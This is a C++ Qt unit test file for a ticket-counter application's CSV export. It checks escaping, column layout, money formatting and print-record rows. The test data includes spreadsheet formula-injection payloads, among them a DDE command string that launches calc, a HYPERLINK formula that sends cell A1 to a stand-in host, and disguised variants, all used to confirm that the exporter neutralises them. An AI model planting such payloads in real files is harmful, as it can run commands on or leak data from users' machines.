// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/tables/BlankSheet.h"
#include "models/tables/OrderCsv.h"
#include "models/tables/OrderTableModel.h"
#include "tests/support/TestProgram.h"
#include "tests/unit/tables/Orders.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>

using namespace Qt::StringLiterals;
using namespace std::chrono_literals;

namespace okoshko::test::tst_csv {

namespace {

using Column = OrderTableModel::Column;
using Kind = CsvCell::Kind;

constexpr const char *mark = "\xEF\xBB\xBF";

/// Of orders without a record.
QByteArray csvOf(const OrderTableModel &model)
{
    return toCsv(model, {}, [](const OrderId &) { return nullptr; });
}

} // namespace

/// A list for a spreadsheet, whatever words the server put into it.
class CsvTest : public QObject
{
    Q_OBJECT

private:
    /// As another program reads it: Python's own reader, started once for all tables.
    QList<QStringList> readBack(const QByteArray &csv, char separator = ';')
    {
        QFile file(m_folder.filePath(u"list.csv"_s));
        if (!file.open(QIODevice::WriteOnly) || file.write(csv) != csv.size())
            return {};
        file.close();
        m_python.write(separator + QFile::encodeName(file.fileName()) + '\n');
        while (!m_python.canReadLine()) {
            if (!m_python.waitForReadyRead())
                return {};
        }
        QList<QStringList> rows;
        const QJsonArray read = QJsonDocument::fromJson(m_python.readLine()).array();
        for (const auto &row : read) {
            QStringList cells;
            for (const auto &cell : row.toArray())
                cells << cell.toString();
            rows << cells;
        }
        return rows;
    }

    QTemporaryDir m_folder;
    QProcess m_python;

private Q_SLOTS:
    void initTestCase()
    {
        m_python.setProcessChannelMode(QProcess::ForwardedErrorChannel);
        m_python.start(u"python3"_s, {QStringLiteral(OKOSHKO_TABLES "/readcsv.py")});
        QVERIFY(m_python.waitForStarted());
    }

    void cleanupTestCase()
    {
        m_python.closeWriteChannel();
        QVERIFY(m_python.waitForFinished());
        QCOMPARE(m_python.exitStatus(), QProcess::NormalExit);
        QCOMPARE(m_python.exitCode(), 0);
    }

    void looksAsItShould()
    {
        const QByteArray csv =
            toCsv({{{u"Заказ"_s}, {u"Сумма"_s}}, {{u"1"_s, Kind::Number}, {u"-5.00"_s, Kind::Number}}}, {});
        QCOMPARE(csv, QByteArray(mark) + "Заказ;Сумма\r\n1;-5,00\r\n");
    }

    void comesBackAsItWas_data()
    {
        QTest::addColumn<QString>("text");
        QTest::newRow("nothing") << QString();
        QTest::newRow("plain") << u"Чайка"_s;
        QTest::newRow("separators") << u"a;b,c\td"_s;
        QTest::newRow("quotes") << u"\"Чайка\" в \"Современнике\""_s;
        QTest::newRow("a quote alone") << u"\""_s;
        QTest::newRow("line ends") << u"first\nsecond\r\nthird\rfourth"_s;
        QTest::newRow("blanks around") << u"  x  "_s;
        QTest::newRow("markup") << u"<img src=x><b>&amp;"_s;
        QTest::newRow("far from ASCII") << u"Ёлка 🎄 العربية"_s;
        QTest::newRow("long") << QString(100000, u'Ж');
        QTest::newRow("an equals sign within") << u"1+1=2"_s;
        QTest::newRow("an apostrophe") << u"'til dawn"_s;
    }

    void comesBackAsItWas()
    {
        QFETCH(QString, text);
        const QList<QStringList> rows = readBack(toCsv({{{text}, {u"end"_s}}}, {}));
        QCOMPARE(rows, (QList<QStringList>{{text, u"end"_s}}));
    }

    void noTextIsAFormula_data()
    {
        QTest::addColumn<QString>("text");
        for (const QString &text : {u"=1+1"_s,
                                    u"+1"_s,
                                    u"-1"_s,
                                    u"@SUM(A1)"_s,
                                    u"\t=1"_s,
                                    u"\r=1"_s,
                                    u"\n=1"_s,
                                    u"\tx"_s,
                                    u"\rx"_s,
                                    u"=cmd|' /C calc'!A0"_s,
                                    u"=HYPERLINK(\"http://x/?\"&A1;\"click\")"_s,
                                    u" =1+1"_s,
                                    u"\u00a0=1+1"_s,
                                    u"\u200b=1+1"_s,
                                    u"\ufeff=1+1"_s,
                                    u"\u202e=1+1"_s,
                                    u"\uff1d1+1"_s,
                                    u"\uff0b1"_s,
                                    u"\uff0d1"_s,
                                    u"\uff20x"_s,
                                    u"\";=1+1"_s,
                                    u"x\";=1+1;\""_s,
                                    u"x\r\n=1+1"_s})
            QTest::newRow(text.toUtf8().toPercentEncoding(" =+-@;").constData()) << text;
    }

    void noTextIsAFormula()
    {
        QFETCH(QString, text);
        const QList<QStringList> rows = readBack(toCsv({{{u"first"_s}, {text}, {u"last"_s}}}, {}));
        // It broke out of no cell, and of its own only an apostrophe may have been put before it.
        QCOMPARE(rows.size(), 1);
        QCOMPARE(rows.first().size(), 3);
        const QString cell = rows.first().at(1);
        QVERIFY(cell == text || cell == u'\'' + text);
        const auto seen = std::find_if(cell.cbegin(), cell.cend(), [](QChar c) { return c.isPrint() && !c.isSpace(); });
        QVERIFY(!u"=+-@\uff1d\uff0b\uff0d\uff20"_s.contains(*seen));
        QVERIFY(!cell.startsWith(u'\t') && !cell.startsWith(u'\r') && !cell.startsWith(u'\n'));
    }

    void noControlCharacterGetsIn()
    {
        const QByteArray csv = toCsv({{{u"a\0b\x1b[31m\u0085"_s}}}, {});
        QVERIFY(std::none_of(csv.cbegin(), csv.cend(), [](char c) { return c == '\0' || c == '\x1b'; }));
        QCOMPARE(readBack(csv).first().first(), u"a\ufffdb\ufffd[31m\ufffd"_s);
    }

    void theListIsAsTheTableShowsIt()
    {
        OrderTableModel model(Format(Format::Language::English));
        model.setNow(noon());
        OrderRow hostile = heldRow(1, u"=HYPERLINK(\"http://x\";\"Чайка\")\r\n-1"_s);
        hostile.order.value = Money::fromMinor(123456789);
        hostile.order.valueExtra = Money::fromMinor(56789);
        hostile.order.nominal = Money::fromMinor(123400000);
        hostile.order.discount = Money::fromMinor(9000);
        hostile.venue.name = u"@venue"_s;
        OrderRow paid = rowOf(2, OrderStatus::Done);
        paid.order.createdAt = noon() + 1min;
        paid.order.customer = {.firstName = u"Анна"_s, .email = u"anna@example.org"_s};
        paid.system = u"api/BASE"_s;
        OrderRow bare = rowOf(3, OrderStatus::Canceled);
        bare.order.createdAt.reset();
        bare.time.start.reset();
        bare.order.absent = Order::Field::Value | Order::Field::ValueExtra | Order::Field::Nominal |
                            Order::Field::Discount | Order::Field::Tickets;
        OrderRow free = rowOf(4, OrderStatus::Done);
        free.order.value = Money();
        free.system = u"api/BASE"_s;
        OrderRow unnamed = rowOf(5, OrderStatus::InProgress);
        unnamed.order.absent = Order::Field::Number;
        unnamed.system = u"554b31d49cb538549d038eb4"_s; // as the server tells it of another counter's order
        for (const OrderRow &row : {hostile, paid, bare, free, unnamed})
            model.put(row);
        model.setPaymentSystems({{.name = u"api/BASE"_s, .labels = {{u"en"_s, u"Cash & card"_s}}}});

        model.sort(static_cast<int>(Column::Number), Qt::AscendingOrder);
        const QByteArray csv = csvOf(model);
        const QString held = model.index(0, static_cast<int>(Column::Status)).data().toString();
        const QStringList head{u"Order"_s,
                               u"Event"_s,
                               u"Starts"_s,
                               u"Ends"_s,
                               u"Venue"_s,
                               u"Tickets"_s,
                               u"Face price"_s,
                               u"Fee"_s,
                               u"Discount"_s,
                               u"Total"_s,
                               u"Taken at the counter"_s,
                               u"Payment method"_s,
                               u"Status"_s,
                               u"Held until"_s,
                               u"Created"_s,
                               u"Printing"_s};
        const QStringList first{u"497291001"_s,
                                u"'=HYPERLINK(\"http://x\";\"Чайка\")\r\n-1"_s,
                                u"2026-05-12T19:00:00+03:00"_s,
                                QString(),
                                u"'@venue"_s,
                                u"2"_s,
                                u"1234090.00"_s,
                                u"567.89"_s,
                                u"90.00"_s,
                                u"1234567.89"_s,
                                QString(),
                                QString(),
                                held,
                                u"2026-05-12T14:33:29+03:00"_s,
                                u"2026-05-12T14:23:29+03:00"_s,
                                QString()};
        const QList<QStringList> rows = readBack(csv, ',');
        QCOMPARE(rows.size(), 6);
        QCOMPARE(rows.at(0), head);
        QCOMPARE(rows.at(1), first);
        QCOMPARE(rows.at(2).at(11), u"Cash & card"_s);
        QCOMPARE(rows.at(2).at(13), QString()); // no hold runs
        QCOMPARE(rows.at(3).at(2), QString());
        QCOMPARE(rows.at(3).at(14), QString());
        QCOMPARE(rows.at(3).mid(5, 5), QStringList(5)); // what is not told is not 0
        QCOMPARE(rows.at(4).at(11), u"free, no money"_s);
        QCOMPARE(rows.at(5).at(0), QString());
        QCOMPARE(rows.at(5).at(11), QString());
        QVERIFY(!csv.contains("anna"));

        model.sort(static_cast<int>(Column::Created), Qt::DescendingOrder);
        QCOMPARE(readBack(csvOf(model), ',').at(1).first(), u"497291002"_s);
        model.setFilter({.statuses = {OrderStatus::Canceled}});
        QCOMPARE(readBack(csvOf(model), ',').size(), 2);
        QCOMPARE(readBack(csvOf(model), ',').at(1).first(), u"497291003"_s);
    }

    /// What is to be in the drawer for it: not what it costs by now.
    void theMoneyThatWasTakenIsInItsRow()
    {
        OrderTableModel model(Format(Format::Language::English));
        OrderRow row = rowOf(1, OrderStatus::Expired);
        Sale sale;
        sale.order.status = OrderStatus::Expired;
        sale.history = {{.at = noon(), .what = HistoryEntry::What::MoneyTaken, .words = u"110050"_s}};
        const auto cell = [&](SaleRemark remark) {
            row.remark = remark;
            model.put(row);
            return readBack(toCsv(model, {}, [&sale](const OrderId &) { return &sale; }), ',').at(1).at(10);
        };
        QCOMPARE(cell(SaleRemark::MoneyTaken), u"1100.50"_s);
        QCOMPARE(cell(SaleRemark::None), QString()); // given back
    }

    /// When, where and what was printed of an order; nothing else of its record.
    void theRecordOfPrintingIsInItsRow()
    {
        using What = HistoryEntry::What;
        OrderTableModel model(Format(Format::Language::English));
        model.put(rowOf(1, OrderStatus::Done));
        Sale sale;
        sale.history = {{.at = noon(), .what = What::Created},
                        {.at = noon() + 1s, .what = What::PrintGivenUp, .words = u"2 paper-out"_s},
                        {.at = noon() + 2s, .what = What::Printed, .words = u"2 Roll, left"_s},
                        {.at = noon() + 3s, .what = What::PrintedAgain, .words = u"1 3 Roll, left"_s},
                        {.at = noon() + 4s, .what = What::SavedAsFile, .words = u"2 0"_s},
                        {.at = noon() + 5s, .what = What::ReceiptPrinted, .words = u"1 Receipts"_s},
                        {.at = noon() + 6s, .what = What::BlanksSpoiled, .words = u"1 105 torn"_s},
                        {.at = noon() + 7s, .what = What::PrintNotNeeded}};
        const QByteArray csv = toCsv(model, u"Till 1"_s, [&sale](const OrderId &) { return &sale; });
        const QStringList lines = readBack(csv, ',').at(1).constLast().split(u"; "_s);
        QCOMPARE(lines.size(), 7);
        const auto words = [&lines](int at) { return lines.value(at).section(u": "_s, 1).replace(u'\u00A0', u' '); };
        QVERIFY2(lines.at(0).startsWith(u"2026-05-12T14:23:30+03:00, Till 1: "), qPrintable(lines.at(0)));
        QCOMPARE(words(0), u"printing given up (no paper): 2 ticket(s)"_s);
        QCOMPARE(words(1), u"printed on “Roll, left”: 2 ticket(s)"_s);
        QCOMPARE(words(2), u"printed again on “Roll, left” as a duplicate (no. 3): 1 ticket(s)"_s);
        QCOMPARE(words(3), u"saved as a PDF file: 2 ticket(s)"_s);
        QCOMPARE(words(4), u"receipt printed again on “Receipts” as a duplicate (no. 1)"_s);
        QCOMPARE(words(5), u"1 blank(s) spoiled, from number 105: torn"_s);
        QCOMPARE(words(6), u"no tickets on paper are needed"_s);
    }

    void eventsStandFromTheirFirstTillTheirLastDay()
    {
        OrderTableModel model(Format(Format::Language::Russian));
        OrderRow row = heldRow(1);
        row.venue.timeZone = "Asia/Vladivostok";
        row.time = {.start = parseInstant(u"2026-01-26T14:00:00Z"_s),
                    .end = parseInstant(u"2026-01-29T14:00:00Z"_s),
                    .dates = EventTime::Dates::DaysOnly};
        model.put(row);
        QCOMPARE(readBack(csvOf(model), ';').at(1).mid(2, 2), (QStringList{u"2026-01-27"_s, u"2026-01-29"_s}));
        row.time.dates = EventTime::Dates::WithTime;
        model.put(row);
        QCOMPARE(readBack(csvOf(model), ';').at(1).mid(2, 2),
                 (QStringList{u"2026-01-26T17:00:00+03:00"_s, u"2026-01-29T17:00:00+03:00"_s}));
    }

    void theSheetOfBlanksHasRangeUsedAndSpoiled()
    {
        const auto use = [](const QString &queue, BlankUse::Use what, qint64 first, int count, const QString &reason) {
            return BlankUse{
                .queue = queue, .at = noon(), .use = what, .first = first, .count = count, .reason = reason};
        };
        const BlankSheet sheet(u"roll"_s, {use(u"roll"_s, BlankUse::Use::Printed, 1000, 3, {}),
                                           use(u"other"_s, BlankUse::Use::Printed, 5, 9, {}),
                                           use(u"roll"_s, BlankUse::Use::Spoiled, 1003, 1, u"=cmd|torn"_s),
                                           use(u"roll"_s, BlankUse::Use::Spoiled, 0, 2, u"beyond"_s)});
        QCOMPARE(sheet.printed, 3);
        QCOMPARE(sheet.spoiled, 3);
        QCOMPARE(BlankSheet::numbers(sheet.uses.first()), u"1000–1002"_s);
        const auto rows =
            readBack(toCsv(sheet, BlankRange{u"roll"_s, 1000, 1999, 1004}, Format(Format::Language::English)), ',');
        QCOMPARE(rows.size(), 5);
        QCOMPARE(rows.at(1), (QStringList{u"roll"_s, {}, u"range"_s, u"1000"_s, u"1999"_s, u"1000"_s, {}}));
        QCOMPARE(
            rows.at(2),
            (QStringList{u"roll"_s, u"2026-05-12T14:23:29+03:00"_s, u"printed"_s, u"1000"_s, u"1002"_s, u"3"_s, {}}));
        QCOMPARE(rows.at(3).last(), u"'=cmd|torn"_s);
        QCOMPARE(rows.at(4).mid(3, 3), (QStringList{{}, {}, u"2"_s}));
        const BlankDay day = BlankDay::of(noon());
        QVERIFY(day.from < noon() && noon() < day.till);
        QCOMPARE(day.till - day.from, Microseconds(std::chrono::hours(24)));
    }

    void anOrderThatIsNotPrintedIsPaidAllTheSame()
    {
        OrderTableModel model(Format(Format::Language::English));
        OrderRow row = rowOf(1, OrderStatus::Done);
        row.print = PrintState::NotPrinted;
        model.put(row);
        QVERIFY(readBack(csvOf(model), ',').at(1).contains(u"Paid"_s));
    }

    /// As spreadsheets in Russian read numbers; they take 1.05 for a date.
    void c21_figuresInRussianHaveAComma()
    {
        OrderTableModel model(Format(Format::Language::Russian));
        OrderRow row = heldRow(1);
        row.order.value = Money::fromMinor(123456789);
        model.put(row);
        QCOMPARE(readBack(csvOf(model), ';').at(1).at(9), u"1234567,89"_s);
    }
};

} // namespace okoshko::test::tst_csv

OKOSHKO_TEST(tst_csv, CsvTest, QCoreApplication)
#include "tst_csv.moc"
